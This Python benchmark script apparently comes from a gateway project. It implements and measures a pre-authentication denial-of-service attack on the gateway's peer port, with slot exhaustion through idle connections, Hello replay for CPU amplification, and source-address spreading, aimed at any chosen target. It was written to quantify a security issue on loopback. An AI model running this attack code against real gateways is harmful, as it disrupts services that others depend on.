"""Pre-authentication attack on a gateway's peer port (issue 9 items 1 and 2), and its cost.

An attacker that can reach TCP 7447 holds many idle connections (slot exhaustion) and replays a
captured Hello as fast as it can (CPU amplification). Three subcommands:

    # a genuine Hello of a site, as an on-path observer would capture it (the site's private
    # keys stand in for the capture)
    .venv/bin/python bench/attack_preauth.py mint-hello --keys keys/bucharest \\
        --from SAE_BUC --to SAE_CLJ --out /tmp/hello.bin

    # attack any gateway (the demo's too); --sources spreads the connections over local
    # addresses (a range of the last octet), --hello replays that Hello (else a forged one)
    .venv/bin/python bench/attack_preauth.py attack --target 198.18.0.11:7447 --idle 200 \\
        --replayers 4 --duration 60 --hello /tmp/hello.bin --sources 198.18.0.100-149

    # self-contained measurement on loopback: a responder and an initiator gateway process
    # (real Endpoints, PQC tunnels rekeying every second), the responder's CPU and rekeys
    # without and with the attack, and a forced reconnect of the initiator under attack
    .venv/bin/python bench/attack_preauth.py measure --seconds 10 [--json]

CPU is on-CPU time of the responder process from /proc/<pid>/stat, as a share of one core;
the attacker runs in its own process.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import signal
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

import structlog

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from gateway.identity import SiteIdentity
from gateway.protocol import (
    Action,
    Endpoint,
    Mode,
    Node,
    PeerAddress,
    PeerConfig,
    SessionUp,
    Timers,
    TunnelPolicy,
)
from gateway.protocol.handshake import InitiatorHandshake
from gateway.protocol.messages import FrameType

try:
    from gateway.protocol.policy import policy_digest
except ImportError:  # wire version 1
    def policy_digest(policies: Any) -> bytes:
        return b""
from gateway.protocol.wire import encode_frame
from tests.protocol.harness import Site

LOOP = "127.0.0.1"
TUNNELS = 4
PEER_TIMERS = Timers(rekey_after=1.0, rekey_after_backup=1.5, reject_after=5.0,
                     rekey_timeout=3.0, keepalive_interval=2.0, dead_after=8.0)


# -- the attacker ---------------------------------------------------------------------------------

def mint_hello(keys: Path, from_sae: str, to_sae: str) -> bytes:
    ident = SiteIdentity.load(keys / "ed25519.key", keys / "mldsa65.key")
    return encode_frame(FrameType.HELLO, _hello(ident, from_sae, to_sae))


def _hello(ident: SiteIdentity, from_sae: str, to_sae: str) -> bytes:
    try:
        hs = InitiatorHandshake(ident, from_sae, to_sae, ident.public(), 0, policy_digest([]),
                                int(time.time() * 1e6))
    except TypeError:  # wire version 1 (the code before issue 9), for the "before" figures
        hs = InitiatorHandshake(ident, from_sae, to_sae, ident.public(), ())  # type: ignore
    return hs.hello


def _sources(spec: str | None) -> list[str | None]:
    if not spec:
        return [None]
    base, _, rng = spec.rpartition(".")
    lo, _, hi = rng.partition("-")
    return [f"{base}.{i}" for i in range(int(lo), int(hi or lo) + 1)]


class Attack:
    def __init__(self, host: str, port: int, hello: bytes, sources: list[str | None]) -> None:
        self.host, self.port, self.hello, self.sources = host, port, hello, sources
        self.stats = {"connects": 0, "refused": 0, "hellos_sent": 0, "replies": 0,
                      "idle_held_max": 0}
        self._idle_now = 0
        self._n = 0
        # Checked by every loop: Python 3.11's wait_for can swallow a cancellation that races
        # with a completed connect, and the task would then run on forever.
        self.stopping = False

    def _source(self) -> tuple[str, int] | None:
        self._n += 1
        src = self.sources[self._n % len(self.sources)]
        return None if src is None else (src, 0)

    async def _open(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter] | None:
        self.stats["connects"] += 1
        try:
            return await asyncio.wait_for(asyncio.open_connection(
                self.host, self.port, local_addr=self._source()), 5.0)
        except (OSError, TimeoutError):
            self.stats["refused"] += 1
            await asyncio.sleep(0)  # full speed, but let the other tasks run
            return None

    async def idle(self) -> None:
        """Hold a connection that sends nothing; reconnect as soon as it is cut."""
        while not self.stopping:
            conn = await self._open()
            if conn is None:
                continue
            self._idle_now += 1
            self.stats["idle_held_max"] = max(self.stats["idle_held_max"], self._idle_now)
            with contextlib.suppress(OSError):
                await conn[0].read(1)  # returns when the gateway closes it
            self._idle_now -= 1
            conn[1].close()

    async def replay(self) -> None:
        """Send the Hello, read what comes back, start over, as fast as possible."""
        while not self.stopping:
            conn = await self._open()
            if conn is None:
                continue
            reader, writer = conn
            try:
                writer.write(self.hello)
                self.stats["hellos_sent"] += 1
                if await reader.read(4096):
                    self.stats["replies"] += 1  # a HelloReply: the expensive path was taken
            except OSError:
                pass
            writer.close()

    async def run(self, idle: int, replayers: int, duration: float,
                  stop_on_eof: bool = False) -> dict[str, Any]:
        """Attack for ``duration`` seconds, until SIGTERM/SIGINT, or (``stop_on_eof``) until
        standard input closes: a parent can stop it without signals."""
        stop = asyncio.Event()
        loop = asyncio.get_running_loop()
        # A parent may have left these blocked (a child inherits the signal mask).
        signal.pthread_sigmask(signal.SIG_UNBLOCK, {signal.SIGTERM, signal.SIGINT})
        for sig in (signal.SIGTERM, signal.SIGINT):
            loop.add_signal_handler(sig, stop.set)
        if stop_on_eof:
            loop.add_reader(sys.stdin.fileno(), lambda: os.read(sys.stdin.fileno(), 4096)
                            or stop.set())
        started = time.monotonic()
        tasks = [asyncio.create_task(self.idle()) for _ in range(idle)]
        tasks += [asyncio.create_task(self.replay()) for _ in range(replayers)]
        deadline = started + duration
        while not stop.is_set() and time.monotonic() < deadline:
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(stop.wait(), min(1.0, deadline - time.monotonic()))
            # The figures so far, once a second: a killed attacker still leaves them.
            print(json.dumps({**self.stats, "seconds": round(time.monotonic() - started, 1)}),
                  flush=True)
        self.stopping = True
        for t in tasks:
            t.cancel()
        await asyncio.wait(tasks, timeout=10)
        seconds = time.monotonic() - started
        return {**self.stats, "seconds": round(seconds, 1),
                "attempts_per_s": round(self.stats["connects"] / seconds, 1)}


# -- a gateway peer for the self-contained measurement ----------------------------------------

def _node(ident: SiteIdentity, sae: str, peer_sae: str, peer_pub: Any) -> Node:
    pols = tuple(TunnelPolicy(f"t{i}", Mode.PQC) for i in range(TUNNELS))
    return Node(ident, sae, {"peer": PeerConfig(peer_sae, peer_pub, pols)}, timers=PEER_TIMERS)


async def run_peer(args: argparse.Namespace) -> None:
    # stdout carries the JSON status lines; the endpoint's logs go to stderr.
    structlog.configure(logger_factory=structlog.PrintLoggerFactory(sys.stderr))
    me = SiteIdentity.load(Path(args.keys) / "ed25519.key", Path(args.keys) / "mldsa65.key")
    them = SiteIdentity.load(Path(args.peer_keys) / "ed25519.key",
                             Path(args.peer_keys) / "mldsa65.key").public()
    node = _node(me, args.sae, args.peer_sae, them)
    site = Site(node, {})
    loop = asyncio.get_running_loop()
    sessions = 0

    def on_action(a: Action) -> None:
        nonlocal sessions
        sessions += isinstance(a, SessionUp)
        ev = site.perform(a)
        if ev is not None:
            loop.call_soon(ep.handle, ev)

    try:
        ep = Endpoint(node, on_action, peers=[PeerAddress("peer", LOOP, 0)])
    except TypeError:  # wire version 1 had no reserved slots
        ep = Endpoint(node, on_action)
    if args.listen:
        print(json.dumps({"port": await ep.listen(LOOP, 0)}), flush=True)
    else:
        ep.dial(PeerAddress("peer", LOOP, args.port))
    # SIGUSR1: drop the session (a forced reconnect); the dialer redials at once.
    loop.add_signal_handler(signal.SIGUSR1, lambda: ep.disconnect("peer") if hasattr(
        ep, "disconnect") else [w.close() for w in ep._writers.values()])  # type: ignore
    while True:
        await asyncio.sleep(0.25)
        done = sum(node.tunnel_status(f"t{i}").rekeys_completed for i in range(TUNNELS))
        site.installed.clear()
        site.actions.clear()
        print(json.dumps({"rekeys": done, "sessions": sessions,
                          "up": node.session_conn("peer") is not None}), flush=True)


class PeerProc:
    def __init__(self, argv: list[str]) -> None:
        self.proc = subprocess.Popen(argv, stdout=subprocess.PIPE, text=True)
        self.last: dict[str, Any] = {}

    def read(self) -> dict[str, Any]:
        assert self.proc.stdout is not None
        self.last = json.loads(self.proc.stdout.readline())
        return self.last

    def latest(self, seconds: float = 0.3) -> dict[str, Any]:
        """Drain what the process printed over ``seconds``; the newest line wins."""
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            self.read()
        return self.last

    def cpu(self) -> float:
        fields = Path(f"/proc/{self.proc.pid}/stat").read_text().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def stop(self) -> None:
        self.proc.terminate()
        with contextlib.suppress(subprocess.TimeoutExpired):
            self.proc.wait(5)
        if self.proc.poll() is None:
            self.proc.kill()


def _window(resp: PeerProc, seconds: float) -> dict[str, float]:
    cpu0, rk0, t0 = resp.cpu(), resp.latest()["rekeys"], time.monotonic()
    time.sleep(seconds)
    cpu1, rk1, t1 = resp.cpu(), resp.latest()["rekeys"], time.monotonic()
    return {"cpu_share": round((cpu1 - cpu0) / (t1 - t0), 4),
            "rekeys_per_s": round((rk1 - rk0) / (t1 - t0), 2)}


def measure(args: argparse.Namespace) -> dict[str, Any]:
    me = [sys.executable, __file__]
    with tempfile.TemporaryDirectory(prefix="qkd-attack-") as tmp:
        keys = {}
        for name in ("resp", "init"):
            keys[name] = Path(tmp) / name
            SiteIdentity.generate().save(keys[name])
        resp = PeerProc([*me, "peer", "--listen", "--keys", str(keys["resp"]), "--peer-keys",
                         str(keys["init"]), "--sae", "SAE_R", "--peer-sae", "SAE_I"])
        port = resp.read()["port"]
        init = PeerProc([*me, "peer", "--port", str(port), "--keys", str(keys["init"]),
                         "--peer-keys", str(keys["resp"]), "--sae", "SAE_I", "--peer-sae",
                         "SAE_R"])
        attacker: subprocess.Popen[str] | None = None
        try:
            while not resp.read().get("up") or resp.last["rekeys"] < 2 * TUNNELS:
                pass
            baseline = _window(resp, args.seconds)
            hello = Path(tmp) / "hello.bin"
            hello.write_bytes(mint_hello(keys["init"], "SAE_I", "SAE_R"))
            attacker = subprocess.Popen(
                [*me, "attack", "--target", f"{LOOP}:{port}", "--idle", str(args.idle),
                 "--replayers", str(args.replayers), "--duration", str(4 * args.seconds + 30),
                 "--hello", str(hello), "--sources", "127.0.0.2-51"],
                stdout=subprocess.PIPE, text=True)
            time.sleep(2.0)  # the idle connections are in place
            attacked = _window(resp, args.seconds)
            sessions = resp.latest()["sessions"]
            t0 = time.monotonic()
            os.kill(init.proc.pid, signal.SIGUSR1)  # forced reconnect, under attack
            while resp.latest(0.05)["sessions"] == sessions or not resp.last["up"]:
                if time.monotonic() - t0 > 60:
                    raise SystemExit("the real peer did not get back in within 60 s")
            reconnect_s = time.monotonic() - t0
            after = _window(resp, args.seconds)
        finally:
            if attacker is not None:
                attacker.terminate()
            init.stop()
            resp.stop()
        stats: dict[str, Any] = {}
        if attacker is not None:
            out, _ = attacker.communicate(timeout=30)
            with contextlib.suppress(ValueError, IndexError):
                stats = json.loads(out.strip().splitlines()[-1])
    return {"baseline": baseline, "under_attack": attacked, "after_forced_reconnect": after,
            "reconnect_under_attack_s": round(reconnect_s, 2), "attacker": stats,
            "cpu_ratio_attack_vs_baseline": round(
                attacked["cpu_share"] / max(baseline["cpu_share"], 1e-6), 2)}


# -- command line ------------------------------------------------------------------------------

def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    sub = ap.add_subparsers(dest="cmd", required=True)
    m = sub.add_parser("mint-hello")
    m.add_argument("--keys", required=True)
    m.add_argument("--from", dest="from_sae", required=True)
    m.add_argument("--to", dest="to_sae", required=True)
    m.add_argument("--out", required=True)
    a = sub.add_parser("attack")
    a.add_argument("--target", required=True, help="host:port")
    a.add_argument("--idle", type=int, default=200)
    a.add_argument("--replayers", type=int, default=4)
    a.add_argument("--duration", type=float, default=30.0)
    a.add_argument("--hello", help="a captured Hello frame (mint-hello); default: forged")
    a.add_argument("--claim-sae", default="SAE_A", help="SAE ID a forged Hello names")
    a.add_argument("--to-sae", default="SAE_B")
    a.add_argument("--sources", help="local source addresses, e.g. 127.0.0.2-51")
    a.add_argument("--stop-on-eof", action="store_true", help="stop when stdin closes")
    p = sub.add_parser("peer")
    p.add_argument("--listen", action="store_true")
    p.add_argument("--port", type=int, default=0)
    for opt in ("--keys", "--peer-keys", "--sae", "--peer-sae"):
        p.add_argument(opt, required=True)
    s = sub.add_parser("measure")
    s.add_argument("--seconds", type=float, default=10.0)
    s.add_argument("--idle", type=int, default=200)
    s.add_argument("--replayers", type=int, default=4)
    s.add_argument("--json", action="store_true")
    args = ap.parse_args()
    if args.cmd == "mint-hello":
        Path(args.out).write_bytes(mint_hello(Path(args.keys), args.from_sae, args.to_sae))
    elif args.cmd == "attack":
        host, _, port = args.target.rpartition(":")
        hello = Path(args.hello).read_bytes() if args.hello else _forged(args)
        attack = Attack(host, int(port), hello, _sources(args.sources))
        print(json.dumps(asyncio.run(attack.run(args.idle, args.replayers, args.duration,
                                                 args.stop_on_eof))), flush=True)
    elif args.cmd == "peer":
        with contextlib.suppress(KeyboardInterrupt):
            asyncio.run(run_peer(args))
    else:
        result = measure(args)
        print(json.dumps(result) if args.json else json.dumps(result, indent=1))


def _forged(args: argparse.Namespace) -> bytes:
    ident = SiteIdentity.generate()  # not the pinned key: the signature cannot verify
    return encode_frame(FrameType.HELLO, _hello(ident, args.claim_sae, args.to_sae))


if __name__ == "__main__":
    main()
